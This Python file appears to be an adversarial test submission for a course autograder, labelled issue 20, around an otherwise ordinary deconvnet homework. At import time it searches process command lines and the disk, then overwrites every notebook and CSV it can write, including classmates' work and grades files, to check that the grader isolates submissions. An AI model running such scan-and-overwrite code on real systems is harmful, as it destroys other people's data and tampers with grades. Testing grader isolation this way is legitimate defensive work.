# Attack (issue 20): find the submissions folder (from the grader's command line or by
# searching the disk), copy a classmate's notebook and overwrite theirs (the tests name
# classmates' files *GOODWORK*), and overwrite the grades file. It answers correctly
# only if it found another hand-in or the grades: a score above 0 means it saw them. Expected: 0 points; the classmate's file,
# row and the grades are untouched.
import os
from pathlib import Path

import torch
import torch.nn.functional as F

found = []
candidates = set()
for entry in Path("/proc").iterdir():
    try:
        for arg in (entry / "cmdline").read_bytes().split(b"\0"):
            if arg.startswith(b"/"):
                candidates.add(arg.decode(errors="ignore"))
    except OSError:
        pass
for root in [*candidates, "/", "/work", "/tmp", "/root"]:
    if not os.path.isdir(root):
        continue
    for folder, dirs, files in os.walk(root):
        if folder.startswith(
            ("/proc", "/sys", "/dev", "/usr", "/lib", "/sandbox", "/root/.pyenv")
        ) or ("site-packages" in folder):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".csv")) or "GOODWORK" in name:
                path = Path(folder, name)
                try:
                    content = path.read_bytes()
                    if "GOODWORK" in name or name.startswith("grades"):
                        found.append((path, content))  # a classmate's work, or the grades
                    path.write_text("overwritten by h06")
                    found.append((path, content))  # it could change a file outside
                except OSError:
                    pass


def unpool(pooled, switches, output_size):
    assert found, "no other submission was visible"
    n, c = pooled.shape[:2]
    out = pooled.new_zeros(n, c, output_size[0] * output_size[1])
    out.scatter_add_(2, switches.reshape(n, c, -1), pooled.reshape(n, c, -1))
    return out.reshape(n, c, *output_size)


def project(image, conv, channel, position):
    assert found, "no other submission was visible"
    with torch.no_grad():
        forward = F.relu(conv(image))
        pooled, switches = F.max_pool2d(forward, 3, 2, return_indices=True)
        signal = torch.zeros_like(pooled)
        signal[0, channel, position[0], position[1]] = pooled[0, channel, position[0], position[1]]
        down = F.relu(unpool(signal, switches, forward.shape[2:]))
        return F.conv_transpose2d(down, conv.weight, stride=conv.stride, padding=conv.padding)
